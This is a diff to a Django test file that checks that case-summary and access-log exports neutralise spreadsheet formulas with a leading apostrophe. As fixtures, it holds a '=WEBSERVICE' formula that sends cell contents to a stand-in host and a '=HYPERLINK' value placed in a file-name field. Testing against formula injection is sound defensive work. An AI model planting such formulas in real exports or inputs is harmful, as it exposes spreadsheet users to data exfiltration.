@@ -9,7 +9,8 @@ from django.urls import reverse
 from openpyxl import load_workbook
 
 from cases.models import Case
-from oversight.exports import csv_response, safe_cell, xlsx_response
+from cases.spreadsheet import safe_cell
+from oversight.exports import csv_response, xlsx_response
 
 FORMULA = '=WEBSERVICE("http://x.example/?"&B5)'
 
@@ -64,3 +65,17 @@ def test_an_anonymous_summary_with_a_formula_is_plain_text_in_the_office_exports
     assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
     lines = _csv(client.get(url + "csv"))
     assert "'" + FORMULA in next(line for line in lines if line[0] == case.number)
+
+
+def test_the_access_log_export_writes_an_uploader_s_file_name_as_text(client, world):
+    from cases.models import AccessKind, PersonalDataAccess
+
+    row = PersonalDataAccess.objects.create(username="clerk", kind=AccessKind.ATTACHMENT,
+                                            case_number="XF-2026-000001",
+                                            detail='=HYPERLINK("http://x.example")')
+    client.force_login(world.admin)
+    response = client.post(reverse("admin:cases_personaldataaccess_changelist"),
+                           {"action": "export_csv", "_selected_action": [row.pk]})
+    lines = _csv(response)
+    assert lines[1][1:5] == ["clerk", "attachment", "XF-2026-000001",
+                             "'" + '=HYPERLINK("http://x.example")']
